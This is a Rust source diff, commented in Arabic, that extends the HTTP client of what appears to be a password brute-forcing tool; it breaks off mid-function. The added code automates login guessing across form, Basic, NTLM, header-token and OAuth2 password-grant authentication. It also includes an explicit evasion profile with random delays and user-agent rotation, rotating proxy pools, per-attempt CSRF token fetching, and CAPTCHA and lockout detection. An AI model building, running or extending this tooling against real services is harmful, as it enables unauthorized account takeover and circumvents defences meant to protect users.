@@ -1,14 +1,27 @@
 //! عميل HTTP سريع ومتعدد الخيوط
 //! يدعم TLS، البروكسي، وإعادة المحاولة
 
+use std::net::{SocketAddr, ToSocketAddrs};
 use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
 use std::time::{Instant, Duration};
-use reqwest::{Client, ClientBuilder, Response, Proxy, StatusCode};
-use reqwest::header::{HeaderMap, HeaderValue, USER_AGENT, CONTENT_TYPE, COOKIE};
-use serde_json::Value;
+use reqwest::{Client, ClientBuilder, Method, Response, Proxy};
+use reqwest::header::{HeaderMap, HeaderName, HeaderValue, ACCEPT, USER_AGENT, CONTENT_TYPE, COOKIE, SET_COOKIE, AUTHORIZATION, HOST, WWW_AUTHENTICATE};
+use serde_json::{json, Value};
 use tokio::time::{sleep, timeout};
 use anyhow::{Result, Context};
-use once_cell::sync::Lazy;
+use once_cell::sync::{Lazy, OnceCell};
+use url::Url;
+
+use crate::calibration::FailureBaseline;
+use crate::captcha::{self, CaptchaKind};
+use crate::csrf::{CsrfExtractor, CsrfToken};
+use crate::login_body::{self, FormFields, LoginBody, PASS_PLACEHOLDER, USER_PLACEHOLDER};
+use crate::matcher::{CapturedResponse, SuccessMatcher};
+use crate::ntlm;
+use crate::racer::AddressRacer;
+use crate::raw_request::{RawRequest, RenderedRequest};
+use crate::throttle::{random_delay, RateLimiter};
 
 static USER_AGENTS: Lazy<Vec<&str>> = Lazy::new(|| {
     vec![
@@ -19,14 +32,344 @@ static USER_AGENTS: Lazy<Vec<&str>> = Lazy::new(|| {
     ]
 });
 
+/// حكم تقييم استجابة تسجيل الدخول
+#[derive(Debug, Clone, Copy)]
+pub struct LoginVerdict {
+    /// هل نجح تسجيل الدخول؟
+    pub success: bool,
+    
+    /// اختبار CAPTCHA المكتشف في الاستجابة
+    pub captcha: Option<CaptchaKind>,
+    
+    /// آلية القفل المكتشفة (من رسائل الإعداد الجاهز)
+    pub lockout: Option<&'static str>,
+}
+
+/// نوع المصادقة المستخدم في طلبات تسجيل الدخول
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum AuthType {
+    /// نموذج HTML (POST form-urlencoded)
+    #[default]
+    Form,
+    /// مصادقة HTTP Basic
+    Basic,
+    /// مصادقة NTLM (Windows Integrated)، يدعم `DOMAIN\user`
+    Ntlm,
+    /// سر في ترويسة (مفتاح API أو رمز) من قالب مثل `X-Api-Key: ^PASS^`
+    Header,
+    /// منحة كلمة المرور OAuth2 على نقطة الرموز (Keycloak، ADFS، IdentityServer)
+    OAuth,
+}
+
+impl std::str::FromStr for AuthType {
+    type Err = anyhow::Error;
+    
+    fn from_str(s: &str) -> Result<Self> {
+        match s.to_lowercase().as_str() {
+            "form" => Ok(AuthType::Form),
+            "basic" => Ok(AuthType::Basic),
+            "ntlm" => Ok(AuthType::Ntlm),
+            "header" => Ok(AuthType::Header),
+            "oauth" => Ok(AuthType::OAuth),
+            _ => Err(anyhow::anyhow!("نوع مصادقة غير مدعوم: {} (form, basic, ntlm, header, oauth)", s)),
+        }
+    }
+}
+
+impl std::fmt::Display for AuthType {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let name = match self {
+            AuthType::Form => "form",
+            AuthType::Basic => "basic",
+            AuthType::Ntlm => "ntlm",
+            AuthType::Header => "header",
+            AuthType::OAuth => "oauth",
+        };
+        write!(f, "{}", name)
+    }
+}
+
+/// إصدار بروتوكول HTTP المستخدم في الطلبات
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
+pub enum HttpVersion {
+    /// تفاوض تلقائي (HTTP/2 عبر ALPN إن دعمه الخادم)
+    #[default]
+    #[serde(rename = "auto")]
+    Auto,
+    /// HTTP/1.1 فقط
+    #[serde(rename = "1.1")]
+    Http1,
+    /// HTTP/2 مباشرة دون تفاوض (prior knowledge)
+    #[serde(rename = "2")]
+    Http2,
+}
+
+impl std::str::FromStr for HttpVersion {
+    type Err = anyhow::Error;
+    
+    fn from_str(s: &str) -> Result<Self> {
+        match s.to_lowercase().as_str() {
+            "auto" => Ok(HttpVersion::Auto),
+            "1.1" | "1" | "http1" => Ok(HttpVersion::Http1),
+            "2" | "h2" | "http2" => Ok(HttpVersion::Http2),
+            _ => Err(anyhow::anyhow!("إصدار HTTP غير مدعوم: {} (auto, 1.1, 2)", s)),
+        }
+    }
+}
+
+impl std::fmt::Display for HttpVersion {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let name = match self {
+            HttpVersion::Auto => "auto",
+            HttpVersion::Http1 => "1.1",
+            HttpVersion::Http2 => "2",
+        };
+        write!(f, "{}", name)
+    }
+}
+
+/// إصدار بروتوكول TLS (للحدود الدنيا والقصوى)
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, serde::Serialize, serde::Deserialize)]
+pub enum TlsVersion {
+    /// TLS 1.0 (غير مدعوم في rustls، مفيد كحد أدنى فقط)
+    #[serde(rename = "1.0")]
+    Tls10,
+    /// TLS 1.1
+    #[serde(rename = "1.1")]
+    Tls11,
+    /// TLS 1.2
+    #[serde(rename = "1.2")]
+    Tls12,
+    /// TLS 1.3
+    #[serde(rename = "1.3")]
+    Tls13,
+}
+
+impl TlsVersion {
+    /// المقابل في reqwest
+    fn to_reqwest(self) -> reqwest::tls::Version {
+        match self {
+            TlsVersion::Tls10 => reqwest::tls::Version::TLS_1_0,
+            TlsVersion::Tls11 => reqwest::tls::Version::TLS_1_1,
+            TlsVersion::Tls12 => reqwest::tls::Version::TLS_1_2,
+            TlsVersion::Tls13 => reqwest::tls::Version::TLS_1_3,
+        }
+    }
+}
+
+impl std::str::FromStr for TlsVersion {
+    type Err = anyhow::Error;
+    
+    fn from_str(s: &str) -> Result<Self> {
+        match s.to_lowercase().trim_start_matches("tls").trim_start_matches('v') {
+            "1.0" | "1" => Ok(TlsVersion::Tls10),
+            "1.1" => Ok(TlsVersion::Tls11),
+            "1.2" => Ok(TlsVersion::Tls12),
+            "1.3" => Ok(TlsVersion::Tls13),
+            _ => Err(anyhow::anyhow!("إصدار TLS غير مدعوم: {} (1.0, 1.1, 1.2, 1.3)", s)),
+        }
+    }
+}
+
+impl std::fmt::Display for TlsVersion {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let name = match self {
+            TlsVersion::Tls10 => "1.0",
+            TlsVersion::Tls11 => "1.1",
+            TlsVersion::Tls12 => "1.2",
+            TlsVersion::Tls13 => "1.3",
+        };
+        write!(f, "TLS {}", name)
+    }
+}
+
+/// تجاوز DNS لاسم مضيف بصيغة curl: `host:port:ip`
+///
+/// يتجاهل reqwest المنفذ عند الاتصال ويستخدم منفذ الرابط، لذا يجب أن يطابقه.
+#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
+pub struct ResolveOverride {
+    /// اسم المضيف المطلوب تجاوزه
+    pub host: String,
+    /// العنوان المستخدم بدل نتيجة DNS
+    pub addr: SocketAddr,
+}
+
+impl std::str::FromStr for ResolveOverride {
+    type Err = anyhow::Error;
+    
+    fn from_str(s: &str) -> Result<Self> {
+        let invalid = || anyhow::anyhow!("صيغة --resolve غير صالحة: {} (host:port:ip)", s);
+        
+        let mut parts = s.splitn(3, ':');
+        let host = parts.next().filter(|h| !h.is_empty()).ok_or_else(invalid)?;
+        let port: u16 = parts.next().and_then(|p| p.parse().ok()).ok_or_else(invalid)?;
+        let ip = parts.next().ok_or_else(invalid)?;
+        
+        // IPv6 بين أقواس كما في curl: host:443:[::1]
+        let ip: std::net::IpAddr = ip
+            .trim_start_matches('[')
+            .trim_end_matches(']')
+            .parse()
+            .map_err(|_| invalid())?;
+        
+        Ok(Self {
+            host: host.to_lowercase(),
+            addr: SocketAddr::new(ip, port),
+        })
+    }
+}
+
+impl std::fmt::Display for ResolveOverride {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(f, "{}:{}:{}", self.host, self.addr.port(), self.addr.ip())
+    }
+}
+
+/// إعدادات طبقة النقل المطبقة عند بناء عملاء reqwest
+#[derive(Debug, Clone, Default)]
+pub struct TransportOptions {
+    /// إصدار HTTP
+    pub http_version: HttpVersion,
+    
+    /// تخطي التحقق من الشهادات (أهداف المختبر ذات الشهادات الموقعة ذاتيًا)
+    pub insecure: bool,
+    
+    /// أدنى إصدار TLS مسموح
+    pub min_tls: Option<TlsVersion>,
+    
+    /// أقصى إصدار TLS مسموح
+    pub max_tls: Option<TlsVersion>,
+    
+    /// شهادات جذر إضافية موثوقة
+    pub ca_certs: Vec<reqwest::Certificate>,
+    
+    /// عناوين ثابتة لأسماء المضيفين تتجاوز DNS
+    pub resolve: Vec<(String, SocketAddr)>,
+}
+
+impl TransportOptions {
+    /// تحميل حزمة شهادات جذر بصيغة PEM (شهادة واحدة أو أكثر)
+    pub fn load_ca_bundle(&mut self, path: &std::path::Path) -> Result<()> {
+        let pem = std::fs::read(path)
+            .context(format!("فشل في قراءة حزمة الشهادات: {}", path.display()))?;
+        let certs = reqwest::Certificate::from_pem_bundle(&pem)
+            .context(format!("حزمة شهادات PEM غير صالحة: {}", path.display()))?;
+        
+        if certs.is_empty() {
+            return Err(anyhow::anyhow!("لا توجد شهادات في الملف: {}", path.display()));
+        }
+        
+        self.ca_certs.extend(certs);
+        Ok(())
+    }
+    
+    /// التحقق من تناسق حدود إصدار TLS
+    pub fn validate(&self) -> Result<()> {
+        if let (Some(min), Some(max)) = (self.min_tls, self.max_tls) {
+            if min > max {
+                return Err(anyhow::anyhow!("أدنى إصدار TLS ({}) أعلى من أقصى إصدار ({})", min, max));
+            }
+        }
+        
+        Ok(())
+    }
+}
+
+/// ملف التهرب من أنظمة الحماية
+#[derive(Debug, Clone)]
+pub struct EvasionProfile {
+    /// الحد الأقصى للخيوط المتوازية
+    pub max_workers: usize,
+    
+    /// أدنى تأخير عشوائي قبل كل طلب
+    pub min_delay: Duration,
+    
+    /// أقصى تأخير عشوائي قبل كل طلب
+    pub max_delay: Duration,
+    
+    /// تدوير وكيل المستخدم مع كل طلب
+    pub rotate_user_agents: bool,
+}
+
+/// بيانات عميل OAuth2 المرسلة مع منحة كلمة المرور
+#[derive(Debug, Clone, Default)]
+pub struct OAuthOptions {
+    /// معرف العميل (client_id)
+    pub client_id: Option<String>,
+    
+    /// سر العميل للعملاء السريين (client_secret)
+    pub client_secret: Option<String>,
+    
+    /// النطاقات المطلوبة (scope)
+    pub scope: Option<String>,
+}
+
+impl OAuthOptions {
+    /// جسم طلب الرمز `grant_type=password` بترميز النماذج
+    pub fn token_request(&self, username: &str, password: &str) -> String {
+        let mut form = url::form_urlencoded::Serializer::new(String::new());
+        form.append_pair("grant_type", "password")
+            .append_pair("username", username)
+            .append_pair("password", password);
+        
+        for (key, value) in [
+            ("client_id", &self.client_id),
+            ("client_secret", &self.client_secret),
+            ("scope", &self.scope),
+        ] {
+            if let Some(value) = value {
+                form.append_pair(key, value);
+            }
+        }
+        
+        form.finish()
+    }
+}
+
+/// هل استجابة نقطة الرموز JSON يحتوي `access_token` غير فارغ
+fn has_access_token(body: &str) -> bool {
+    serde_json::from_str::<serde_json::Value>(body)
+        .ok()
+        .and_then(|value| value.get("access_token")?.as_str().map(|token| !token.is_empty()))
+        .unwrap_or(false)
+}
+
+/// مسار خروج عبر بروكسي واحد من مجموعة البروكسيات
+#[derive(Clone)]
+struct ProxyRoute {
+    url: String,
+    client: Client,
+    limiter: Option<Arc<RateLimiter>>,
+}
+
 /// عميل HTTP متقدم
 pub struct HttpClient {
     client: Client,
-    base_url: String,
+    pub(crate) base_url: String,
+    proxy: Option<String>,
+    transport: TransportOptions,
     default_headers: HeaderMap,
     request_timeout: Duration,
     max_retries: u32,
     cookies: Option<String>,
+    proxy_routes: Vec<ProxyRoute>,
+    next_route: Arc<AtomicUsize>,
+    racer: Option<Arc<AddressRacer>>,
+    baseline: Arc<OnceCell<FailureBaseline>>,
+    matcher: Arc<SuccessMatcher>,
+    evasion: Option<EvasionProfile>,
+    user_agent_index: Arc<AtomicUsize>,
+    rate_limiter: Option<Arc<RateLimiter>>,
+    auth_type: AuthType,
+    login_body: LoginBody,
+    csrf: Option<Arc<CsrfExtractor>>,
+    lockout_markers: &'static [(&'static str, &'static str)],
+    raw_request: Option<Arc<RawRequest>>,
+    login_method: Method,
+    login_query: Option<String>,
+    secret_header: Option<(HeaderName, String)>,
+    oauth: OAuthOptions,
 }
 
 impl HttpClient {
@@ -36,26 +379,9 @@ impl HttpClient {
         timeout_secs: u64,
         proxy: Option<&str>,
     ) -> Result<Self> {
-        let mut builder = ClientBuilder::new()
-            .connect_timeout(Duration::from_secs(10))
-            .tcp_nodelay(true)
-            .use_rustls_tls()
-            .pool_max_idle_per_host(20)
-            .pool_idle_timeout(Duration::from_secs(90))
-            .http1_only()
-            .http2_prior_knowledge();
-        
-        // إضافة بروكسي إذا وجد
-        if let Some(proxy_url) = proxy {
-            let proxy = Proxy::all(proxy_url)
-                .context("فشل في إنشاء بروكسي")?;
-            builder = builder.proxy(proxy);
-        }
-        
         // إنشاء العميل
-        let client = builder
-            .build()
-            .context("فشل في بناء عميل HTTP")?;
+        let transport = TransportOptions::default();
+        let client = Self::build_client(proxy, &transport)?;
         
         // إنشاء الترويسات الافتراضية
         let mut headers = HeaderMap::new();
@@ -91,13 +417,347 @@ impl HttpClient {
         Ok(Self {
             client,
             base_url: base_url.to_string(),
+            proxy: proxy.map(str::to_string),
+            transport,
             default_headers: headers,
             request_timeout: Duration::from_secs(timeout_secs),
             max_retries: 3,
             cookies: None,
+            proxy_routes: Vec::new(),
+            next_route: Arc::new(AtomicUsize::new(0)),
+            racer: None,
+            baseline: Arc::new(OnceCell::new()),
+            matcher: Arc::new(SuccessMatcher::default()),
+            evasion: None,
+            user_agent_index: Arc::new(AtomicUsize::new(0)),
+            rate_limiter: None,
+            auth_type: AuthType::Form,
+            login_body: LoginBody::default(),
+            csrf: None,
+            lockout_markers: &[],
+            raw_request: None,
+            login_method: Method::POST,
+            login_query: None,
+            secret_header: None,
+            oauth: OAuthOptions::default(),
         })
     }
     
+    /// منشئ عميل reqwest بإعدادات النقل المحددة
+    fn base_builder(transport: &TransportOptions) -> ClientBuilder {
+        let mut builder = ClientBuilder::new()
+            .connect_timeout(Duration::from_secs(10))
+            .tcp_nodelay(true)
+            .use_rustls_tls()
+            .pool_max_idle_per_host(20)
+            .pool_idle_timeout(Duration::from_secs(90))
+            .danger_accept_invalid_certs(transport.insecure);
+        
+        if let Some(min) = transport.min_tls {
+            builder = builder.min_tls_version(min.to_reqwest());
+        }
+        if let Some(max) = transport.max_tls {
+            builder = builder.max_tls_version(max.to_reqwest());
+        }
+        for cert in &transport.ca_certs {
+            builder = builder.add_root_certificate(cert.clone());
+        }
+        for (host, addr) in &transport.resolve {
+            builder = builder.resolve(host, *addr);
+        }
+        
+        match transport.http_version {
+            HttpVersion::Auto => builder,
+            HttpVersion::Http1 => builder.http1_only(),
+            HttpVersion::Http2 => builder.http2_prior_knowledge(),
+        }
+    }
+    
+    /// بناء عميل reqwest بإعدادات النقل المحددة
+    fn build_client(proxy: Option<&str>, transport: &TransportOptions) -> Result<Client> {
+        let mut builder = Self::base_builder(transport);
+        
+        // إضافة بروكسي إذا وجد
+        if let Some(proxy_url) = proxy {
+            let proxy = Proxy::all(proxy_url)
+                .context("فشل في إنشاء بروكسي")?;
+            builder = builder.proxy(proxy);
+        }
+        
+        builder
+            .build()
+            .context("فشل في بناء عميل HTTP")
+    }
+    
+    /// تعيين مجموعة بروكسيات مع حد معدل اختياري لكل بروكسي
+    ///
+    /// يتم توزيع الطلبات على البروكسيات بالتناوب، ويُتخطى أي بروكسي
+    /// استنفد حصته من الطلبات في الثانية الحالية.
+    pub fn set_proxy_pool(
+        &mut self,
+        proxies: &[String],
+        per_proxy_rate_limit: Option<u32>,
+    ) -> Result<()> {
+        if proxies.is_empty() {
+            return Err(anyhow::anyhow!("مجموعة البروكسيات فارغة"));
+        }
+        if per_proxy_rate_limit == Some(0) {
+            return Err(anyhow::anyhow!("حد المعدل لكل بروكسي يجب أن يكون 1 طلب/ثانية على الأقل (احذفه لعدم التحديد)"));
+        }
+        
+        let routes = proxies
+            .iter()
+            .map(|url| {
+                Ok(ProxyRoute {
+                    url: url.clone(),
+                    client: Self::build_client(Some(url), &self.transport)
+                        .context(format!("فشل في إنشاء عميل للبروكسي: {}", url))?,
+                    limiter: per_proxy_rate_limit.map(|rps| Arc::new(RateLimiter::new(rps))),
+                })
+            })
+            .collect::<Result<Vec<_>>>()?;
+        
+        self.proxy_routes = routes;
+        self.next_route.store(0, Ordering::Relaxed);
+        Ok(())
+    }
+    
+    /// تفعيل سباق الاتصالات بين عناوين الهدف المحلولة (Happy Eyeballs)
+    ///
+    /// مفيد للأهداف ثنائية المكدس أو متعددة سجلات A خلف موازن أحمال،
+    /// حيث يتم التحويل تلقائيًا عند توقف أحد العناوين عن الاستجابة.
+    pub async fn enable_connection_racing(&mut self) -> Result<()> {
+        if !self.proxy_routes.is_empty() {
+            return Err(anyhow::anyhow!("سباق الاتصالات غير متاح مع مجموعة البروكسيات"));
+        }
+        if !self.transport.resolve.is_empty() {
+            return Err(anyhow::anyhow!("سباق الاتصالات غير متاح مع العناوين الثابتة (--sni, --resolve)"));
+        }
+        
+        let racer = AddressRacer::new(&self.base_url, Duration::from_secs(10), || Self::base_builder(&self.transport))
+            .await
+            .context("فشل في تهيئة سباق الاتصالات")?;
+        
+        tracing::info!(
+            "سباق الاتصالات مفعل: {} عنوان، المختار: {}",
+            racer.addresses().len(),
+            racer.current_address()
+        );
+        
+        self.racer = Some(Arc::new(racer));
+        Ok(())
+    }
+    
+    /// تعيين إعدادات النقل وإعادة بناء العملاء بها
+    ///
+    /// يجب استدعاؤها قبل تفعيل سباق الاتصالات لأن عملاء السباق تُبنى مرة واحدة.
+    pub fn set_transport(&mut self, transport: TransportOptions) -> Result<()> {
+        if self.racer.is_some() {
+            return Err(anyhow::anyhow!("لا يمكن تغيير إعدادات النقل بعد تفعيل سباق الاتصالات"));
+        }
+        transport.validate()?;
+        
+        self.client = Self::build_client(self.proxy.as_deref(), &transport)?;
+        for route in &mut self.proxy_routes {
+            route.client = Self::build_client(Some(&route.url), &transport)
+                .context(format!("فشل في إنشاء عميل للبروكسي: {}", route.url))?;
+        }
+        
+        self.transport = transport;
+        Ok(())
+    }
+    
+    /// إعدادات النقل الحالية
+    pub fn transport(&self) -> &TransportOptions {
+        &self.transport
+    }
+    
+    /// تعيين بروكسي واحد مع الحفاظ على بقية الإعدادات
+    pub fn set_proxy(&mut self, proxy_url: &str) -> Result<()> {
+        self.client = Self::build_client(Some(proxy_url), &self.transport)?;
+        self.proxy = Some(proxy_url.to_string());
+        Ok(())
+    }
+    
+    /// استهداف مضيف افتراضي خلف عنوان مشترك
+    ///
+    /// مع `sni` يُعاد كتابة الرابط باسم المضيف الافتراضي (فيُرسل في SNI وHost)
+    /// ويُثبت الاتصال على العنوان الأصلي. `host_header` يتجاوز ترويسة Host وحدها.
+    pub fn set_virtual_host(&mut self, host_header: Option<&str>, sni: Option<&str>) -> Result<()> {
+        if let Some(sni) = sni {
+            let mut url = Url::parse(&self.base_url).context("رابط غير صالح")?;
+            let host = url
+                .host_str()
+                .ok_or_else(|| anyhow::anyhow!("رابط غير صالح: لا يوجد نطاق"))?
+                .to_string();
+            let port = url.port_or_known_default().unwrap_or(443);
+            
+            // تجاوز DNS المحدد بـ --resolve يتقدم على الحل الفعلي
+            let pinned = self
+                .transport
+                .resolve
+                .iter()
+                .find(|(name, _)| name.eq_ignore_ascii_case(&host))
+                .map(|(_, addr)| SocketAddr::new(addr.ip(), port));
+            let addr = match pinned {
+                Some(addr) => addr,
+                None => (host.as_str(), port)
+                    .to_socket_addrs()
+                    .context(format!("فشل في حل اسم المضيف: {}", host))?
+                    .next()
+                    .ok_or_else(|| anyhow::anyhow!("لم يتم العثور على عناوين للمضيف: {}", host))?,
+            };
+            
+            url.set_host(Some(sni)).context(format!("اسم SNI غير صالح: {}", sni))?;
+            
+            let mut transport = self.transport.clone();
+            transport.resolve.push((sni.to_string(), addr));
+            self.set_transport(transport)?;
+            self.base_url = url.to_string();
+        }
+        
+        if let Some(host) = host_header {
+            self.default_headers.insert(
+                HOST,
+                HeaderValue::from_str(host).context(format!("ترويسة Host غير صالحة: {}", host))?,
+            );
+        }
+        
+        Ok(())
+    }
+    
+    /// عدد البروكسيات في المجموعة
+    pub fn proxy_count(&self) -> usize {
+        self.proxy_routes.len()
+    }
+    
+    /// اختيار العميل التالي (مباشر أو عبر بروكسي) مع احترام حد المعدل لكل بروكسي
+    async fn next_client(&self) -> &Client {
+        if self.proxy_routes.is_empty() {
+            return match &self.racer {
+                Some(racer) => racer.current(),
+                None => &self.client,
+            };
+        }
+        
+        let count = self.proxy_routes.len();
+        let start = self.next_route.fetch_add(1, Ordering::Relaxed) % count;
+        
+        // البحث عن بروكسي لديه حصة متاحة
+        for offset in 0..count {
+            let route = &self.proxy_routes[(start + offset) % count];
+            match &route.limiter {
+                Some(limiter) if !limiter.try_acquire() => continue,
+                _ => return &route.client,
+            }
+        }
+        
+        // جميع البروكسيات مشغولة: انتظار البروكسي المختار بالتناوب
+        let route = &self.proxy_routes[start];
+        if let Some(limiter) = &route.limiter {
+            limiter.acquire().await;
+        }
+        &route.client
+    }
+    
+    /// تعيين مطابق النجاح
+    pub fn set_success_matcher(&mut self, matcher: SuccessMatcher) {
+        self.matcher = Arc::new(matcher);
+    }
+    
+    /// تعيين نوع المصادقة
+    pub fn set_auth_type(&mut self, auth_type: AuthType) {
+        self.auth_type = auth_type;
+    }
+    
+    /// تعيين قالب جسم طلب تسجيل الدخول
+    pub fn set_login_body(&mut self, login_body: LoginBody) {
+        self.login_body = login_body;
+    }
+    
+    /// تفعيل استخراج رمز CSRF قبل كل محاولة
+    pub fn set_csrf_extractor(&mut self, extractor: CsrfExtractor) {
+        self.csrf = Some(Arc::new(extractor));
+    }
+    
+    /// تعيين رسائل القفل المعروفة (العلامة بأحرف صغيرة، اسم الآلية)
+    pub fn set_lockout_markers(&mut self, markers: &'static [(&'static str, &'static str)]) {
+        self.lockout_markers = markers;
+    }
+    
+    /// تعيين مهلة كل طلب
+    pub fn set_request_timeout(&mut self, request_timeout: Duration) {
+        self.request_timeout = request_timeout;
+    }
+    
+    /// تعيين حد المعدل العام (طلبات/ثانية) المشترك بين جميع النسخ والمهام
+    pub fn set_rate_limit(&mut self, requests_per_second: Option<u32>) {
+        self.rate_limiter = requests_per_second.map(|rps| Arc::new(RateLimiter::new(rps)));
+    }
+    
+    /// مشاركة محدد معدل قائم (حدود المضيف في الفحوصات متعددة الأهداف)
+    pub fn share_rate_limiter(&mut self, limiter: Arc<RateLimiter>) {
+        self.rate_limiter = Some(limiter);
+    }
+    
+    /// تفعيل ملف التهرب (تأخير عشوائي وتدوير وكيل المستخدم)
+    pub fn set_evasion(&mut self, profile: EvasionProfile) {
+        self.evasion = Some(profile);
+    }
+    
+    /// تعيين طلب خام يُعاد إرساله لكل محاولة بدل بناء الطلب
+    pub fn set_raw_request(&mut self, request: RawRequest) {
+        self.raw_request = Some(Arc::new(request));
+    }
+    
+    /// تعيين طريقة طلب تسجيل الدخول وقالب سلسلة الاستعلام (مثال: GET مع `u=^USER^&p=^PASS^`)
+    pub fn set_login_method(&mut self, method: Method, query: Option<String>) {
+        self.login_method = method;
+        self.login_query = query;
+    }
+    
+    /// تعيين حقول الجسم الافتراضي (أسماء حقلي المستخدم وكلمة المرور وحقول إضافية)
+    pub fn set_form_fields(&mut self, fields: FormFields) {
+        self.login_body.set_fields(fields);
+    }
+    
+    /// إضافة ترويسات مخصصة إلى كل الطلبات (تتجاوز الافتراضية بنفس الاسم)
+    pub fn set_extra_headers(&mut self, headers: &[(String, String)]) -> Result<()> {
+        for (name, value) in headers {
+            let name = HeaderName::from_bytes(name.as_bytes())
+                .context(format!("اسم ترويسة غير صالح: {}", name))?;
+            let value = HeaderValue::from_str(value)
+                .context(format!("قيمة ترويسة غير صالحة: {}", value))?;
+            self.default_headers.insert(name, value);
+        }
+        
+        Ok(())
+    }
+    
+    /// تعيين قالب ترويسة السر (مثال: `Authorization: Token ^PASS^`) وتفعيل مصادقة الترويسة
+    pub fn set_secret_header(&mut self, template: &str) -> Result<()> {
+        let (name, value) = template
+            .split_once(':')
+            .ok_or_else(|| anyhow::anyhow!("قالب ترويسة غير صالح: {} (NAME: VALUE)", template))?;
+        let name = HeaderName::from_bytes(name.trim().as_bytes())
+            .context(format!("اسم ترويسة غير صالح: {}", name))?;
+        let value = value.trim();
+        
+        if !value.contains(PASS_PLACEHOLDER) && !value.contains(USER_PLACEHOLDER) {
+            tracing::warn!("قالب الترويسة لا يحتوي {} أو {}", PASS_PLACEHOLDER, USER_PLACEHOLDER);
+        }
+        
+        self.secret_header = Some((name, value.to_string()));
+        self.auth_type = AuthType::Header;
+        Ok(())
+    }
+    
+    /// تعيين بيانات عميل OAuth2 وتفعيل منحة كلمة المرور
+    pub fn set_oauth(&mut self, options: OAuthOptions) {
+        self.oauth = options;
+        self.auth_type = AuthType::OAuth;
+    }
+    
     /// تعيين الكوكيز
     pub fn set_cookies(&mut self, cookies: &str) {
         self.cookies = Some(cookies.to_string());
@@ -117,12 +777,20 @@ impl HttpClient {
                     
                     // تسجيل وقت الاستجابة
                     if elapsed > Duration::from_secs(5) {
-                        log::warn!("استجابة بطيئة: {:.2?} - {}:{}", elapsed, username, password);
+                        tracing::warn!(username = %username, latency_ms = elapsed.as_millis() as u64, "استجابة بطيئة: {:.2?}", elapsed);
+                    }
+                    
+                    if let Some(racer) = &self.racer {
+                        racer.record_success();
                     }
                     
                     return Ok(response);
                 }
                 Err(e) => {
+                    if let Some(racer) = &self.racer {
+                        racer.record_failure().await;
+                    }
+                    
                     last_error = Some(e);
                     retries += 1;
                     
@@ -140,10 +808,34 @@ impl HttpClient {
         Err(anyhow::anyhow!(
             "فشل بعد {} محاولات: {}",
             self.max_retries,
-            last_error.unwrap()
+            last_error.map(|e| e.to_string()).unwrap_or_default()
         ))
     }
     
+    /// إرسال طلب مولد خارجيًا (إضافات WASM) مع حد المعدل والبروكسي والمهلة
+    pub async fn send_rendered(&self, rendered: RenderedRequest) -> Result<Response> {
+        if let Some(limiter) = &self.rate_limiter {
+            limiter.acquire().await;
+        }
+        
+        self.dispatch_rendered(rendered).await
+    }
+    
+    /// إرسال طلب جاهز عبر العميل التالي
+    async fn dispatch_rendered(&self, rendered: RenderedRequest) -> Result<Response> {
+        let request = self
+            .next_client()
+            .await
+            .request(rendered.method, rendered.url)
+            .headers(rendered.headers)
+            .body(rendered.body);
+        
+        timeout(self.request_timeout, request.send())
+            .await
+            .context("مهلة الطلب انتهت")?
+            .context("فشل في إرسال الطلب")
+    }
+    
     /// إرسال طلب تسجيل الدخول
     async fn send_login_request(&self, username: &str, password: &str) -> Result<Response> {
         let mut headers = self.default_headers.clone();
@@ -156,29 +848,247 @@ impl HttpClient {
             );
         }
         
-        // بيانات النموذج
-        let form_data = [
-            ("username", username),
-            ("password", password),
-            ("submit", "Login"),
-            ("csrf_token", "test"), // يمكن تعديله حسب الحاجة
-        ];
+        // ملف التهرب: تأخير عشوائي وتدوير وكيل المستخدم
+        if let Some(evasion) = &self.evasion {
+            if evasion.max_delay > Duration::ZERO {
+                sleep(random_delay(evasion.min_delay, evasion.max_delay)).await;
+            }
+            
+            if evasion.rotate_user_agents {
+                let index = self.user_agent_index.fetch_add(1, Ordering::Relaxed) % USER_AGENTS.len();
+                headers.insert(USER_AGENT, HeaderValue::from_static(USER_AGENTS[index]));
+            }
+        }
+        
+        // انتظار حصة من حد المعدل العام
+        if let Some(limiter) = &self.rate_limiter {
+            limiter.acquire().await;
+        }
+        
+        // الطلب الخام يُرسل كما هو بعد الاستبدال
+        if let Some(raw) = &self.raw_request {
+            let rendered = raw.render(&self.base_url, username, password)?;
+            return self.dispatch_rendered(rendered).await;
+        }
+        
+        // بناء الطلب حسب نوع المصادقة
+        let request = match self.auth_type {
+            AuthType::Form => {
+                let client = self.next_client().await;
+                
+                // جلب رمز CSRF جديد لكل محاولة
+                let csrf = match &self.csrf {
+                    Some(extractor) => Some(self.fetch_csrf_token(client, extractor, &headers).await?),
+                    None => None,
+                };
+                if let Some(cookies) = csrf.as_ref().and_then(|t| t.cookies.as_deref()) {
+                    headers.insert(COOKIE, HeaderValue::from_str(cookies)?);
+                }
+                
+                let csrf = csrf.as_ref().map(|t| (t.field.as_str(), t.value.as_str()));
+                let url = match &self.login_query {
+                    Some(query) => {
+                        let separator = if self.base_url.contains('?') { '&' } else { '?' };
+                        let query = login_body::render_query(query, username, password, csrf);
+                        format!("{}{}{}", self.base_url, separator, query)
+                    }
+                    None => self.base_url.clone(),
+                };
+                
+                // GET و HEAD بدون جسم: بيانات الاعتماد في سلسلة الاستعلام
+                if self.login_method == Method::GET || self.login_method == Method::HEAD {
+                    headers.remove(CONTENT_TYPE);
+                    
+                    client
+                        .request(self.login_method.clone(), url)
+                        .headers(headers)
+                } else {
+                    // جسم الطلب من القالب (نموذج أو JSON)
+                    let (content_type, body) = self.login_body.render(username, password, csrf);
+                    headers.insert(CONTENT_TYPE, HeaderValue::from_static(content_type));
+                    
+                    client
+                        .request(self.login_method.clone(), url)
+                        .headers(headers)
+                        .body(body)
+                }
+            }
+            AuthType::Basic => {
+                let client = self.next_client().await;
+                headers.remove(CONTENT_TYPE);
+                
+                client
+                    .get(&self.base_url)
+                    .headers(headers)
